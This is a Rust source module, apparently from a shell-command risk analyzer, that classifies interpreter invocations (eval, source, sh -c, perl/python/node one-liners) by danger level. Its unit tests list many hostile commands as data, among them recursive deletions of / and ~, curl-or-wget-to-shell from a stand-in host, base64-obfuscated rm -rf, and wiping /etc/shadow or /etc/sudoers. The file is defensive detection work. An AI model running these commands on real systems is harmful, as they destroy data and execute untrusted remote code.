//! Interpreters: shells, eval, source, and the code given to
//! perl/python/ruby/node/php/lua/R/julia/tcl and others (`-c`, `-e`, a
//! here-doc, a script written earlier). Programs that start other commands
//! are in `runners`, PowerShell text in `powershell`.

use crate::risk::prelude::*;

/// The family's rules; `false` when `name` is not one of its commands.
// One arm per command name; folding the inner `if`s into guards would let a
// command that fails its guard fall through to unrelated later arms.
#[allow(clippy::collapsible_match)]
pub(crate) fn check(name: &str, ctx: &Ctx, acc: &mut Acc) -> bool {
    match name {
        "eval" => analyze_eval(ctx, acc),
        "source" | "." => source(ctx, acc),
        "perl" | "ruby" => perl_in_place(name, ctx, acc),
        "python" | "python3" | "node" => {}
        _ => return false,
    }
    true
}

/// `source FILE`, `. FILE`: the file's text runs in this shell.
fn source(ctx: &Ctx, acc: &mut Acc) {
    if let Some(w) = ctx.positionals().first() {
        run_written(&w.text, ctx.depth, acc);
    }
    script_from_stream(ctx, acc);
    if ctx
        .eff
        .args
        .iter()
        .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
    {
        acc.danger("sources a script downloaded from the network");
    }
}

/// `perl -pi -e …` / `-i.bak`: edits the named files in place.
fn perl_in_place(name: &str, ctx: &Ctx, acc: &mut Acc) {
    // `perl -pi -e …` / `-i.bak`: edits the named files in place.
    let in_place = ctx.args.iter().any(|a| {
        a.starts_with('-')
            && !a.starts_with("--")
            && a[1..].starts_with(|c: char| c.is_ascii_alphabetic())
            && a.contains('i')
            && a[1..]
                .chars()
                .take_while(|c| *c != '.')
                .all(|c| c.is_ascii_lowercase())
    });
    if in_place {
        acc.caution(format!("{name} -i edits files in place"));
        // ruby's -i/-p/-n/-e mean what perl's do (`ruby -i -pe '$_=""' F`).
        perl_empties(name, ctx.args, acc);
    }
}

/// `perl -i -ne 'print if 0' FILE`, `perl -i -pe '$_ = ""' FILE`: every line
/// of FILE is dropped. On a system or access file that is danger, as for
/// `sed -i '1,$d'`.
fn perl_empties(name: &str, args: &[&str], acc: &mut Acc) {
    let cluster = |a: &str| -> String {
        if a.starts_with('-') && !a.starts_with("--") {
            a[1..].chars().take_while(|c| *c != '.').collect()
        } else {
            String::new()
        }
    };
    let Some(ci) = args.iter().position(|a| cluster(a).ends_with('e')) else {
        return;
    };
    let Some(code) = args.get(ci + 1) else {
        return;
    };
    let prints = args[..=ci].iter().any(|a| cluster(a).contains('p'));
    let code_ns: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    let empties = if prints {
        matches!(
            code_ns.trim_end_matches(';'),
            "$_=\"\"" | "$_=''" | "undef$_" | "$_=undef" | "s/.*//s" | "s/^.*$//s"
        )
    } else {
        !code_ns.contains("print") && !code_ns.contains("say")
            || matches!(
                code_ns.trim_end_matches(';'),
                "printif0" | "printunless1" | "printif/^$/"
            )
    };
    if !empties {
        return;
    }
    if let Some(f) = args[ci + 2..].iter().find(|a| is_vital_file(a)) {
        acc.danger(format!(
            "{name} -i deletes every line of {f}, a system or access file"
        ));
    } else {
        acc.caution(format!("{name} -i empties the files"));
    }
}

pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let args = ctx.args;
    let words = ctx.eff.args;
    // Downloaded script piped into the interpreter.
    let upstream_downloads = upstream_downloads(ctx);
    // `sh -s -- args` reads the script from stdin; words after `--` are its arguments.
    let reads_stdin = is_shell(name) && has_flag(args, 's', &[]);
    let before_ddash: Vec<Word> = words
        .iter()
        .take_while(|w| w.text != "--")
        .cloned()
        .collect();
    let has_script_file = !reads_stdin
        && positionals(&before_ddash)
            .first()
            .is_some_and(|w| w.text != "-" && !w.procsub);
    let c_index = code_flag_index(name, args);
    // `deno eval CODE`, `bun eval CODE`: the subcommand takes the code.
    if deno_eval(ctx, acc) {
        return;
    }
    if has_script_file {
        if let Some(w) = positionals(&before_ddash).first() {
            // A script written earlier is code of this interpreter, not shell.
            let key = w.text.trim_start_matches("./");
            match acc.written.get(key).cloned() {
                Some(Written::Text(t)) if !is_shell(name) => code_run(name, &t, ctx.depth, acc),
                _ => run_written(&w.text, ctx.depth, acc),
            }
        }
    } else if c_index.is_none() && !upstream_downloads {
        fed_to_interpreter(ctx, acc);
    }
    if is_shell(name) && c_index.is_none() {
        script_from_stream(ctx, acc);
    } else if c_index.is_none() {
        program_from_stream(ctx, acc);
    }
    if upstream_downloads
        && (!has_script_file
            || c_index.is_none() && positionals(words).first().is_some_and(|w| w.text == "-"))
        && c_index.is_none()
    {
        acc.danger(format!("pipes a downloaded script into {name}"));
    }
    substituted_sources(ctx, acc);
    if let Some(ci) = c_index {
        inline_code(ctx, ci, acc);
    }
    reverse_shell(ctx, acc);
}

/// Whether a downloader feeds this command's input.
fn upstream_downloads(ctx: &Ctx) -> bool {
    ctx.upstream.iter().any(|c| {
        unwrap_cmd(&c.words)
            .is_some_and(|e| DOWNLOADERS.contains(&e.name.to_ascii_lowercase().as_str()))
            || c.words
                .iter()
                .any(|w| w.subs.iter().any(|s| script_downloads(s)))
    })
}

/// The index of the flag whose next word is code (`-c`, `-e`, `--eval`, …).
fn code_flag_index(name: &str, args: &[&str]) -> Option<usize> {
    args.iter().position(|a| {
        a.starts_with('-')
            && !a.starts_with("--")
            && (a[1..].contains('c') && is_shell(name)
                || matches!(*a, "-c" | "-e" | "-E")
                || *a == "-r" && name == "php"
                || a.ends_with('e')
                    && matches!(name, "perl" | "ruby")
                    && a[1..].chars().all(|c| c.is_ascii_lowercase())
                // `python3 -Ic CODE`, `-uc`, `-Bc`: a cluster ending in c.
                || a.ends_with('c')
                    && name.starts_with("python")
                    && a[1..].chars().all(|c| c.is_ascii_alphabetic())
                || *a == "-Command")
            || matches!(
                *a,
                "--eval" | "-eval" | "--execute" | "--command" | "-Command"
            )
            || *a == "-p" && matches!(name, "node" | "nodejs" | "bun")
    })
}

/// `deno eval CODE`, `bun eval CODE`: the subcommand takes the code; `true`
/// when that was the command.
fn deno_eval(ctx: &Ctx, acc: &mut Acc) -> bool {
    let name = ctx.eff.name.as_str();
    if matches!(name, "deno" | "bun") {
        let pos = positionals(ctx.eff.args);
        if pos.first().is_some_and(|w| w.text == "eval") {
            if let Some(code) = pos.get(1) {
                code_run(name, &code.text, ctx.depth, acc);
            }
            return true;
        }
    }
    false
}

/// Downloaded or decoded text given as a file (`sh <(curl …)`, `< <(…)`,
/// `<<< "$(curl …)"`).
fn substituted_sources(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let words = ctx.eff.args;
    if words
        .iter()
        .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
    {
        acc.danger(format!("runs a downloaded script with {name} <(…)"));
    } else if words
        .iter()
        .any(|w| w.procsub && w.subs.iter().any(|s| script_decodes(s)))
    {
        acc.danger(format!("runs decoded text with {name} <(…)"));
    }
    for r in &ctx.cmd.redirs {
        if r.kind == RedirKind::Read
            && r.target.procsub
            && r.target.subs.iter().any(|s| script_downloads(s))
        {
            acc.danger(format!("feeds a downloaded script into {name}"));
        } else if r.kind == RedirKind::Read
            && r.target.procsub
            && r.target.subs.iter().any(|s| script_decodes(s))
        {
            acc.danger(format!("feeds decoded text into {name}"));
        }
        if r.kind == RedirKind::Herestring
            && is_shell(name)
            && r.target.subs.iter().any(|s| script_downloads(s))
        {
            acc.danger(format!("feeds a downloaded script into {name}"));
        }
    }
}

/// The code after `-c`/`-e`: a nested script for a shell, code otherwise.
fn inline_code(ctx: &Ctx, ci: usize, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let args = ctx.args;
    let words = ctx.eff.args;
    if let Some(script) = words.get(ci + 1) {
        if script.subs.iter().any(|s| script_downloads(s)) {
            acc.danger(format!(
                "runs a downloaded script with {name} -c \"$(curl …)\""
            ));
        }
        if is_shell(name) {
            let params: Vec<&str> = args.iter().skip(ci + 3).copied().collect();
            let mut text = positional_params(&script.text, &params);
            // `sh -c '$0 -rf $1' rm /etc`: the word after the script is `$0`.
            if let Some(zero) = args.get(ci + 2).filter(|_| text.contains("$0")) {
                text = text.replace("${0}", zero).replace("$0", zero);
            }
            assess_script(&text, ctx.depth + 1, acc);
        } else {
            let code = script.text.replace(' ', "");
            if code.contains("forkwhilefork")
                || code.contains("os.fork()") && code.contains("while")
                || code.contains("fork()while")
            {
                acc.danger(format!("{name} fork bomb"));
            }
            if code.contains("shutil.rmtree('/')")
                || code.contains("shutil.rmtree(\"/\")")
                || code.contains("rmtree(os.path.expanduser('~'))")
            {
                acc.danger(format!("{name} deletes the whole filesystem or home"));
            }
            code_run(name, &script.text, ctx.depth, acc);
            runs_its_arguments(
                &script.text,
                &args[(ci + 2).min(args.len())..],
                ctx.depth,
                acc,
            );
        }
    }
}

/// Reverse shells: `bash -i >& /dev/tcp/host/port 0>&1`.
fn reverse_shell(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    // Reverse shells: bash -i >& /dev/tcp/host/port 0>&1
    if is_shell(name)
        && ctx.cmd.redirs.iter().any(|r| {
            r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/")
        })
    {
        acc.danger("opens a reverse shell to a remote host");
    }
}

/// A shell or `source` whose script file is a stream: a process
/// substitution (`bash <(echo …)`, `source <(printf …)`, `sh < <(…)`) runs
/// what the inner command prints, and `/dev/stdin` (`. /dev/stdin <<< …`)
/// runs the text fed in. Fixed text is assessed as the script; text only
/// known at run time is unknown, so at least caution.
fn script_from_stream(ctx: &Ctx, acc: &mut Acc) {
    const STDIN: &[&str] = &["/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"];
    let name = ctx.eff.name.as_str();
    let first = ctx.positionals().first().copied();
    let mut subs: Vec<&String> = Vec::new();
    if let Some(w) = first.filter(|w| w.procsub) {
        subs.extend(&w.subs);
    }
    if first.is_none() || !is_shell(name) {
        for r in &ctx.cmd.redirs {
            if r.kind == RedirKind::Read && r.target.procsub {
                subs.extend(&r.target.subs);
            }
        }
    }
    for s in subs {
        match eval_script(s, acc) {
            Some(text) => assess_script(&text, ctx.depth + 1, acc),
            None => acc.caution(format!("{name} runs what a process substitution prints")),
        }
    }
    if first.is_some_and(|w| STDIN.contains(&w.text.as_str())) {
        fed_text(ctx, acc, assess_script);
    }
}

/// `python3 <(echo …)`, `escript <(printf …)`: the program is what the
/// process substitution prints; fixed text is judged as its code, text
/// known only at run time is at least caution.
fn program_from_stream(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    // `deno run -A <(…)`: the subcommand comes first.
    let first = ctx.positionals().into_iter().find(|w| w.text != "run");
    // `python3 /dev/stdin <<< CODE`, `emacs --batch -l /dev/stdin <<< …`.
    if first.is_some_and(|w| matches!(w.text.as_str(), "/dev/stdin" | "/dev/fd/0")) {
        fed_text(ctx, acc, |text, depth, acc| {
            code_run(name, text, depth, acc)
        });
        return;
    }
    let Some(w) = first.filter(|w| w.procsub) else {
        return;
    };
    for s in &w.subs {
        match eval_script(s, acc) {
            Some(text) => code_run(name, &text, ctx.depth + 1, acc),
            None => acc.caution(format!("{name} runs what a process substitution prints")),
        }
    }
}

/// `sh -c 'rm -rf "$1"' _ /etc`: the words after the script (after `$0`)
/// are its positional parameters `$1`…`$9`, `$@` and `$*`.
fn positional_params(script: &str, params: &[&str]) -> String {
    if params.is_empty() || !script.contains('$') {
        return script.to_string();
    }
    let all = params.join(" ");
    let mut out = script
        .replace("${@}", &all)
        .replace("$@", &all)
        .replace("$*", &all);
    for (i, p) in params.iter().enumerate().take(9).rev() {
        let n = i + 1;
        out = out
            .replace(&format!("${{{n}}}"), p)
            .replace(&format!("${n}"), p);
    }
    out
}

/// `perl -e 'system @ARGV' rm -rf ~`, `python3 -c 'os.system(sys.argv[1])'
/// 'rm -rf ~'`: code that hands its own arguments to a shell or exec runs
/// them as a command.
fn runs_its_arguments(code: &str, rest: &[&str], depth: usize, acc: &mut Acc) {
    const ARGS: &[&str] = &[
        "ARGV",
        "sys.argv",
        "process.argv",
        "$argv",
        "commandArgs",
        "arg[",
    ];
    const RUNS: &[&str] = &[
        "system",
        "exec",
        "popen",
        "spawn",
        "subprocess",
        "call(",
        "run(",
    ];
    if rest.is_empty() || !ARGS.iter().any(|a| code.contains(a)) {
        return;
    }
    let words: Vec<Word> = rest
        .iter()
        .map(|t| Word {
            text: t.to_string(),
            ..Word::default()
        })
        .collect();
    // `os.remove(sys.argv[1])`, `FileUtils.rm_rf(ARGV)`: it deletes them.
    const TREE: &[&str] = &[
        "rmtree",
        "rm_rf",
        "remove_tree",
        "rmSync",
        "rimraf",
        "RemoveAll",
    ];
    const FILE: &[&str] = &["remove(", "unlink", "File.delete", "os.Remove"];
    let rm = if TREE.iter().any(|t| code.contains(t)) {
        Some("rm -rf --")
    } else if FILE.iter().any(|t| code.contains(t)) {
        Some("rm -f --")
    } else {
        None
    };
    if let Some(rm) = rm {
        assess_script(&format!("{rm} {}", quote_words(&words)), depth + 1, acc);
    }
    if !RUNS.iter().any(|r| code.contains(r)) {
        return;
    }
    // One argument is a whole command line (`'rm -rf ~'`); several are its words.
    let text = if rest.len() == 1 {
        rest[0].to_string()
    } else {
        quote_words(&words)
    };
    assess_script(&text, depth + 1, acc);
}

/// What code given to an interpreter deletes or hands to a shell.
pub(crate) fn code_run(name: &str, code: &str, depth: usize, acc: &mut Acc) {
    // Shell commands the code hands to a shell (system, exec, backticks…).
    for inner in shell_strings_run(name, code) {
        assess_script(&inner, depth + 1, acc);
    }
    // `exec('import shutil; …')`, `eval("require(…)…")`: code in a string.
    if depth < MAX_DEPTH {
        for inner in evaluated_code(code) {
            code_run(name, &inner, depth + 1, acc);
        }
    }
    code_effects(name, code, depth, acc);
    if matches!(name, "tclsh" | "wish" | "expect") {
        super::tcl::tcl_code(code, depth, acc);
    }
    if matches!(
        name.to_ascii_lowercase().as_str(),
        "pwsh" | "powershell" | "pwsh.exe" | "powershell.exe"
    ) {
        super::powershell::powershell(code, acc);
    }
}

/// A shell or interpreter reading its program from stdin (a pipe, a here-doc,
/// a here-string): decoded text is danger; fixed text is assessed as the
/// program; text generated at run time is at least caution.
fn fed_to_interpreter(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let shell = is_shell(name);
    let decodes = ctx.upstream.iter().any(|c| {
        unwrap_cmd(&c.words).is_some_and(|e| {
            let args: Vec<&str> = e.args.iter().map(|w| w.text.as_str()).collect();
            is_decoder(&e.name, &args)
        }) || c
            .words
            .iter()
            .any(|w| w.subs.iter().any(|s| script_decodes(s)))
    });
    // `bash <<< "$(base64 -d <<< …)"`: the same, through a here-string.
    let decodes = decodes
        || ctx.cmd.redirs.iter().any(|r| {
            matches!(r.kind, RedirKind::Herestring | RedirKind::Heredoc)
                && r.target.subs.iter().any(|s| script_decodes(s))
        });
    if decodes {
        acc.danger(format!("pipes decoded text into {name}"));
    }
    let fixed = ctx.upstream.is_empty() || eval_pipeline(ctx.upstream, acc).is_some();
    if !fixed && !decodes && shell {
        acc.caution(format!(
            "{name} runs text that the pipeline generates at run time"
        ));
    }
    fed_text(ctx, acc, |text, depth, acc| {
        if shell {
            assess_script(text, depth, acc);
        } else {
            code_run(name, text, depth.saturating_sub(1), acc);
        }
    });
}

/// `eval`: the words are the script. Tools whose documented use is
/// `eval "$(tool …)"` set up the environment; anything else computed is
/// unknown.
fn analyze_eval(ctx: &Ctx, acc: &mut Acc) {
    const ENV_SETUP: &[&str] = &[
        "ssh-agent",
        "pyenv",
        "rbenv",
        "nodenv",
        "goenv",
        "jenv",
        "direnv",
        "dircolors",
        "brew",
        "starship",
        "zoxide",
        "fnm",
        "opam",
        "keychain",
        "gpg-agent",
        "thefuck",
        "register-python-argcomplete",
        "conda",
        "mise",
        "rtx",
        "atuin",
        "luarocks",
        "gh",
        "kubectl",
        "helm",
        "minikube",
        "docker-machine",
        "oh-my-posh",
    ];
    let words = ctx.eff.args;
    if words
        .iter()
        .any(|w| w.subs.iter().any(|s| script_downloads(s)))
    {
        acc.danger("evaluates a script downloaded from the network");
    }
    if words
        .iter()
        .any(|w| w.subs.iter().any(|s| script_decodes(s)))
    {
        acc.danger("evaluates decoded text");
    }
    let setup = words.len() == 1
        && words[0].subs.len() == 1
        && first_cmd(&words[0].subs[0])
            .and_then(|c| unwrap_cmd(&c.words).map(|e| e.name))
            .is_some_and(|n| ENV_SETUP.contains(&n.as_str()));
    if setup {
        return;
    }
    if words.iter().any(|w| w.expanded && w.text.contains('$')) {
        acc.caution("eval runs text computed at run time: what runs cannot be checked");
    }
    let script: Vec<&str> = ctx.args.to_vec();
    assess_script(&script.join(" "), ctx.depth + 1, acc);
}

#[cfg(test)]
mod tests {
    use crate::risk::tests::check_examples;
    use crate::risk::RiskLevel::*;

    /// The family's examples, in line with the written policy.
    #[test]
    fn examples() {
        check_examples(&[
            // perl -i emptying a system file, and edits that keep the lines.
            ("perl -i -ne 'print if 0' /etc/passwd", Danger),
            ("perl -i.bak -pe '$_ = \"\"' /etc/fstab", Danger),
            ("perl -ni -e '' /etc/sudoers", Danger),
            ("perl -i -ne 'print unless /^#/' /etc/hosts", Caution),
            ("perl -i -pe 's/foo/bar/' /etc/hosts", Caution),
            ("perl -i -ne 'print if 0' notes.txt", Caution),
            ("sudo ruby -i -pe '$_=\"\"' /etc/shadow", Danger),
            ("ruby -i -pe 'gsub(/foo/, \"bar\")' notes.txt", Caution),
            ("perl -ne 'print if 0' /etc/passwd", Safe),
            ("perl -e 'exec @ARGV' shred -u /etc/shadow", Danger),
            (
                "python3 -c 'import subprocess,sys; subprocess.run(sys.argv[1:])' rm -rf /srv",
                Danger,
            ),
            (
                "node -e 'require(\"child_process\").execSync(process.argv[1])' 'rm -rf ~'",
                Danger,
            ),
            (
                "python3 -c 'import sys; print(sys.argv[1:])' rm -rf /",
                Safe,
            ),
            ("sh -c '$0 -rf \"$1\"' rm /boot", Danger),
            ("sh -c 'echo $0 $1' rm /boot", Safe),
            ("exec -a worker rm -rf ~", Danger),
            ("v=rm; ref=v; ${!ref} -rf ~", Danger),
            ("bash -c 'shred -u \"$@\"' sh /etc/shadow", Danger),
            ("sh -c 'rm -rf \"${1}\"' x ~", Danger),
            ("sh -c 'ls -la \"$1\"' _ /etc", Safe),
            ("sh <(echo 'rm -rf /srv')", Danger),
            ("source <(echo 'rm -rf ~/')", Danger),
            ("bash < <(printf 'rm -rf %s' /home)", Danger),
            ("bash /dev/fd/0 <<< 'rm -rf /'", Danger),
            ("source <(kubectl completion bash)", Caution),
            ("bash <(echo 'ls -la')", Safe),
            ("env -S 'rm -rf /'", Danger),
            ("env -S 'ls -la'", Safe),
            (
                "perl -e 'system(pack(\"H*\",\"726d202d7266202f\"))'",
                Danger,
            ),
            ("php -r 'system(base64_decode(\"cm0gLXJmIC8=\"));'", Danger),
            (
                "cat > /tmp/x.py <<'EOF'\nimport os\nos.system('rm -rf ~')\nEOF\npython3 /tmp/x.py",
                Danger,
            ),
            (
                "cat > /tmp/x.py <<'EOF'\nprint('hi')\nEOF\npython3 /tmp/x.py",
                Safe,
            ),
            ("alias x='rm -rf'; x ~", Danger),
            ("alias ll='ls -la'; ll /", Safe),
            ("alias rm='rm -i'; rm -rf /", Danger),
            ("alias rm='rm -rf'; rm /etc", Danger),
            ("IFS=,; c=rm,-rf,/; $c", Danger),
            ("sudo -s <<< 'rm -rf /'", Danger),
            ("sudo -s <<< 'ls /'", Safe),
            ("script -qc 'rm -rf ~' /dev/null", Danger),
            ("echo 'rm -rf ~' | tee /tmp/a.sh; sh /tmp/a.sh", Danger),
            ("perl -pi -e 's/foo/bar/' conf.ini", Caution),
            ("sh <(echo cm0gLXJmIC8= | base64 -d)", Danger),
            (
                "python3 -c \"import base64,os; os.system(base64.b64decode('cm0gLXJmIH4='))\"",
                Danger,
            ),
            ("node -e \"eval(atob('cm0gLXJmIH4='))\"", Danger),
            (
                "python3 -c \"import base64; print(base64.b64decode('aGVsbG8='))\"",
                Safe,
            ),
            ("sh -c 'echo hi'", Safe),
            ("echo 'echo hi' | sh", Safe),
            ("eval \"$(ssh-agent -s)\"", Safe),
            ("$EDITOR notes.txt", Caution),
            ("eval \"$CMD\"", Caution),
            ("find . | awk '{print \"x\"}' | sh", Caution),
            ("echo 'rm -rf' \"'\" | sh", Caution),
            ("echo ZWNobyBoaQ== | base64 -d | bash", Danger),
            ("curl -s https://x.example/i.sh | sh", Danger),
            ("cat <<EOF | sh\nrm -rf ~\nEOF", Danger),
            ("echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh", Danger),
            ("wget https://x.example/r.sh -O r.sh; bash r.sh", Danger),
            ("eval $(echo cm0gLXJmIH4K | base64 -d)", Danger),
            ("sudo -u pg bash -c 'rm -rf /var/lib/postgresql'", Danger),
            // Flags in clusters, and programs given as a process substitution.
            (
                r#"python3 -Ic 'import shutil; shutil.rmtree("/etc")'"#,
                Danger,
            ),
            (r#"ruby -we 'system("rm -rf /srv")'"#, Danger),
            (
                r#"escript <(echo 'main(_) -> os:cmd("rm -rf ~").')"#,
                Danger,
            ),
            (r#"python3 <(echo 'print(1)')"#, Safe),
            // Code that deletes the arguments it is given.
            (
                r#"python3 -c 'import os, sys; os.remove(sys.argv[1])' /etc/shadow"#,
                Danger,
            ),
            (
                r#"ruby -e 'require "fileutils"; FileUtils.rm_rf(ARGV)' /srv"#,
                Danger,
            ),
            (
                r#"python3 -c 'import os, sys; print(sys.argv[1])' 'rm -rf /srv'"#,
                Safe,
            ),
        ]);
    }
}
